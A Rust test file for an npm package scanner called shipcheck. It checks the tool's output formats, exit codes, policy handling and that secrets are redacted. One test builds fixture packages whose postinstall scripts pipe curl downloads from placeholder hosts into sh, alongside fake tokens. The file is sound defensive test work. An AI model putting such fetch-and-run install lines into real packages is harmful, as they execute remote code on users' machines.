//! `check`'s outputs and exit codes: text, JSON, SARIF (against the official schema) and
//! markdown with their snapshots, secrets never printed in any format, `--fail-on`, and
//! policy files that override, allow or are refused.

mod common;

use common::fixtures::{tgz_as_stored_v7, write};
use common::{CLEAN_PKG, find, json_of, leaky, shipcheck_in, token};
use serde_json::Value;

/// Replaces what varies between runs (temp paths, digests) before snapshotting.
fn redact(mut v: Value) -> Value {
    for side in ["artifact", "baseline"] {
        if let Some(a) = v.get_mut(side).and_then(Value::as_object_mut) {
            for k in ["path", "sha256", "sha512", "integrity", "packed_size"] {
                if a.contains_key(k) {
                    a.insert(k.into(), "[redacted]".into());
                }
            }
        }
    }
    if let Some(p) = v.get_mut("policy").and_then(Value::as_object_mut) {
        p.insert(
            "path".into(),
            p["path"].as_str().map(|_| "[redacted]").into(),
        );
    }
    v
}

#[test]
fn a_clean_package_passes() {
    let dir = tempfile::tempdir().expect("tempdir");
    let f = write(
        dir.path(),
        "clean-1.0.0.tgz",
        &tgz_as_stored_v7(&[
            ("package/package.json", CLEAN_PKG),
            ("package/index.js", b"module.exports = 1;\n"),
        ]),
    );
    let (v, code) = json_of(dir.path(), &[f.to_str().expect("utf-8")]);
    assert_eq!(code, 0, "clean package exits 0: {v}");
    assert_eq!(v["summary"]["failed"], false);
    assert_eq!(v["findings"].as_array().map(Vec::len), Some(0), "{v}");
    assert_eq!(v["artifact"]["name"], "clean");
    assert!(
        v["artifact"]["integrity"]
            .as_str()
            .is_some_and(|s| s.starts_with("sha512-"))
    );
}

#[test]
fn text_output_counts_what_it_does_not_list_below_high() {
    let dir = tempfile::tempdir().expect("tempdir");
    // Maps without sources are one finding per package; references to external maps are one
    // per file that makes them.
    let names: Vec<String> = (0..14)
        .map(|i| format!("package/dist/m{i:02}.js"))
        .collect();
    let bodies: Vec<String> = (0..14)
        .map(|i| format!("x();\n//# sourceMappingURL=https://cdn.example.net/m{i:02}.js.map\n"))
        .collect();
    let mut files: Vec<(&str, &[u8])> = vec![("package/package.json", CLEAN_PKG)];
    files.extend(
        names
            .iter()
            .zip(&bodies)
            .map(|(n, b)| (n.as_str(), b.as_bytes())),
    );
    let f = write(dir.path(), "maps-1.0.0.tgz", &tgz_as_stored_v7(&files));
    let out = shipcheck_in(dir.path())
        .arg("check")
        .arg(&f)
        .output()
        .expect("runs");
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("MEDIUM (14)"), "{text}");
    assert_eq!(
        text.matches("  sourcemap-reference ").count(),
        10,
        "ten of one rule are listed: {text}"
    );
    assert!(
        text.contains("… and 4 more sourcemap-reference (--format json lists all)"),
        "{text}"
    );
    let (v, _) = json_of(dir.path(), &[f.to_str().expect("utf-8")]);
    assert_eq!(
        find(&v, "sourcemap-reference").len(),
        14,
        "JSON lists every finding"
    );
}

#[test]
fn outputs_match_their_snapshots() {
    let dir = tempfile::tempdir().expect("tempdir");
    let f = leaky(dir.path());
    let (v, _) = json_of(dir.path(), &[f.to_str().expect("utf-8")]);
    insta::assert_json_snapshot!("check_json", redact(v));
    let md = shipcheck_in(dir.path())
        .args(["check", "--format", "markdown"])
        .arg(&f)
        .output()
        .expect("runs");
    insta::assert_snapshot!("check_markdown", String::from_utf8_lossy(&md.stdout));
    let sarif = shipcheck_in(dir.path())
        .args(["check", "--format", "sarif"])
        .arg(&f)
        .output()
        .expect("runs");
    let mut s: Value = serde_json::from_slice(&sarif.stdout).expect("SARIF is JSON");
    s["runs"][0]["tool"]["driver"]["rules"] =
        Value::from("[catalogue: see `shipcheck rules --format json`]");
    insta::assert_json_snapshot!("check_sarif", s);
}

#[test]
fn sarif_validates_against_the_official_schema() {
    let dir = tempfile::tempdir().expect("tempdir");
    let f = leaky(dir.path());
    write(
        dir.path(),
        "shipcheck.toml",
        b"[[allow]]\npath = \"vendor/**\"\nreason = \"vendored on purpose\"\n",
    );
    let out = shipcheck_in(dir.path())
        .args(["check", "--format", "sarif"])
        .arg(&f)
        .output()
        .expect("runs");
    let sarif: Value = serde_json::from_slice(&out.stdout).expect("SARIF is JSON");
    let schema: Value =
        serde_json::from_str(include_str!("data/sarif-schema-2.1.0.json")).expect("schema");
    let validator = jsonschema::validator_for(&schema).expect("schema compiles");
    let errors: Vec<String> = validator
        .iter_errors(&sarif)
        .map(|e| format!("{} at {}", e, e.instance_path))
        .collect();
    assert!(errors.is_empty(), "SARIF violates the schema: {errors:#?}");
    assert_eq!(sarif["version"], "2.1.0");
    let results = sarif["runs"][0]["results"].as_array().expect("results");
    assert!(
        results
            .iter()
            .any(|r| r["suppressions"][0]["justification"] == "vendored on purpose"),
        "allowed findings are suppressed, not dropped"
    );
    let embedded = results
        .iter()
        .find(|r| r["ruleId"] == "secret-github-pat")
        .expect("the token inside the map's embedded source");
    let loc = &embedded["locations"][0];
    assert_eq!(
        loc["physicalLocation"]["artifactLocation"]["uri"],
        "dist/cli.js.map"
    );
    assert!(
        loc["physicalLocation"]["region"].is_null(),
        "line 42 is the embedded source's, not the map file's: {loc}"
    );
    assert_eq!(
        loc["logicalLocations"][0]["fullyQualifiedName"],
        "dist/cli.js.map \u{25b8} src/auth/token.ts:42"
    );
    assert!(
        embedded["message"]["text"]
            .as_str()
            .is_some_and(|m| m.starts_with("dist/cli.js.map \u{25b8} src/auth/token.ts:42: ")),
        "{}",
        embedded["message"]
    );
    let top = results
        .iter()
        .find(|r| r["ruleId"] == "install-script")
        .expect("install script");
    assert_eq!(
        top["locations"][0]["physicalLocation"]["region"]["startLine"], 1,
        "a top-level finding keeps its region"
    );
    let mut broken = sarif.clone();
    broken["runs"][0]["results"][0]["level"] = Value::from("fatal");
    assert!(
        !validator.is_valid(&broken),
        "the validator does reject invalid SARIF"
    );
}

#[test]
fn secret_values_never_appear_in_any_format() {
    let dir = tempfile::tempdir().expect("tempdir");
    let f = leaky(dir.path());
    for format in ["text", "json", "sarif", "markdown"] {
        let out = shipcheck_in(dir.path())
            .args(["check", "--format", format])
            .arg(&f)
            .output()
            .expect("runs");
        let text = String::from_utf8_lossy(&out.stdout);
        assert!(
            text.contains("ghp_"),
            "{format}: the finding is there with its prefix"
        );
        assert!(
            !text.contains(&token()[..14]),
            "{format} leaks the token:\n{text}"
        );
        assert!(
            !text.contains('\u{1b}'),
            "{format}: no colour when not a terminal"
        );
    }
}

/// A fake token of `prefix` + 36 alphanumerics, different for each `seed`.
fn fake(prefix: &str, seed: u64) -> String {
    const A: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
    let mut x = 0x9E37_79B9_7F4A_7C15_u64 ^ seed.wrapping_mul(0x2545_F491_4F6C_DD1D);
    let body: String = (0..36)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            char::from(A[(x % A.len() as u64) as usize])
        })
        .collect();
    format!("{prefix}{body}")
}

#[test]
fn no_rule_prints_a_secret_it_quotes_in_any_format() {
    let dir = tempfile::tempdir().expect("tempdir");
    let script = fake("ghp_", 1);
    let dep = fake("ghp_", 2);
    let map_url = fake("ghp_", 3);
    let bundled = "Pl41nPassw0rd4Deploy";
    let custom = fake("npm_", 5);
    let old = write(
        dir.path(),
        "a-1.0.0.tgz",
        &tgz_as_stored_v7(&[(
            "package/package.json",
            br#"{"name":"a","version":"1.0.0"}"#.as_slice(),
        )]),
    );
    let pkg = serde_json::json!({
        "name": "a", "version": "1.0.1",
        "scripts": { "postinstall": format!("curl -H 'Authorization: token {script}' https://x.example/i.sh | sh") },
        "dependencies": { "d": format!("git+https://x-oauth:{dep}@github.com/o/d.git") },
    })
    .to_string();
    let dep_pkg = serde_json::json!({
        "name": "dep", "version": "1.0.0",
        "scripts": { "postinstall": format!("curl https://ci:{bundled}@dl.example.com/x | sh") },
    })
    .to_string();
    let js =
        format!("main();\n//# sourceMappingURL=https://user:{map_url}@maps.example.com/a.js.map\n");
    let notes = format!("release token is {custom}\n");
    let new = write(
        dir.path(),
        "a-1.0.1.tgz",
        &tgz_as_stored_v7(&[
            ("package/package.json", pkg.as_bytes()),
            ("package/node_modules/dep/package.json", dep_pkg.as_bytes()),
            ("package/dist/a.js", js.as_bytes()),
            ("package/NOTES.txt", notes.as_bytes()),
        ]),
    );
    let policy = write(
        dir.path(),
        "policy.toml",
        b"[[pattern]]\nid = \"release-note\"\nseverity = \"high\"\ncontent = 'release token is \\S+'\n",
    );
    let args = |format: &str| {
        let out = shipcheck_in(dir.path())
            .args(["check", "--format", format])
            .arg(&new)
            .arg("--baseline")
            .arg(&old)
            .arg("--policy")
            .arg(&policy)
            .output()
            .expect("runs");
        String::from_utf8_lossy(&out.stdout).into_owned()
    };
    let v: Value = serde_json::from_str(&args("json")).expect("JSON");
    for (rule, what) in [
        ("install-script", "the postinstall and the bundled one"),
        ("new-dependency", "the git dependency"),
        ("sourcemap-reference", "the external map URL"),
        ("release-note", "the custom pattern"),
    ] {
        assert!(!find(&v, rule).is_empty(), "{what} is reported: {v}");
    }
    for format in ["text", "json", "sarif", "markdown"] {
        let out = args(format);
        for (secret, case) in [
            (script.as_str(), "postinstall header"),
            (dep.as_str(), "dependency spec"),
            (map_url.as_str(), "map URL"),
            (bundled, "bundled dependency's URL password"),
            (custom.as_str(), "custom pattern match"),
        ] {
            assert!(
                !out.contains(&secret[..12]),
                "{format} prints the {case} secret:\n{out}"
            );
        }
    }
}

#[test]
fn fail_on_and_exit_codes() {
    let dir = tempfile::tempdir().expect("tempdir");
    let f = write(
        dir.path(),
        "nofiles-1.0.0.tgz",
        &tgz_as_stored_v7(&[(
            "package/package.json",
            br#"{"name":"n","version":"1.0.0"}"#.as_slice(),
        )]),
    );
    shipcheck_in(dir.path())
        .arg("check")
        .arg(&f)
        .assert()
        .code(0);
    shipcheck_in(dir.path())
        .arg("check")
        .arg(&f)
        .args(["--fail-on", "medium"])
        .assert()
        .code(1);
    shipcheck_in(dir.path())
        .arg("check")
        .arg(&f)
        .args(["--fail-on", "urgent"])
        .assert()
        .code(2);
    shipcheck_in(dir.path())
        .args(["check", "no-such-file.tgz"])
        .assert()
        .code(2);
}

#[test]
fn policy_allows_overrides_and_refuses_bad_files() {
    let dir = tempfile::tempdir().expect("tempdir");
    let f = leaky(dir.path());
    let policy = write(
        dir.path(),
        "policy.toml",
        b"[severity]\n\"install-script\" = \"low\"\n[[allow]]\npath = \"dist/cli.js.map\"\nreason = \"maps are public by design\"\nexpires = 2999-12-31\n",
    );
    let (v, code) = json_of(
        dir.path(),
        &[
            f.to_str().expect("utf-8"),
            "--policy",
            policy.to_str().expect("utf-8"),
        ],
    );
    assert_eq!(code, 1, "the nested .env still fails");
    let m = &find(&v, "sourcemap-embedded-sources")[0];
    assert_eq!(
        m["allowed"]["reason"], "maps are public by design",
        "allowed, and still shown"
    );
    assert_eq!(find(&v, "install-script")[0]["severity"], "low");
    assert!(v["policy"]["sha256"].is_string());
    let bad = write(
        dir.path(),
        "bad.toml",
        b"profile = \"public\"\n\n[thresholds]\nmax_size = 3\n",
    );
    let out = shipcheck_in(dir.path())
        .args(["check"])
        .arg(&f)
        .arg("--policy")
        .arg(&bad)
        .output()
        .expect("runs");
    assert_eq!(out.status.code(), Some(2), "a bad policy is an error");
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("bad.toml:4:"), "names file and line: {err}");
    assert!(err.contains("unknown field"), "{err}");
    assert!(err.contains(" (hint: "), "{err}");
    assert_eq!(err.trim_end().lines().count(), 1, "one line: {err}");
    assert!(!err.contains("^J"), "no escaped newline: {err}");
}
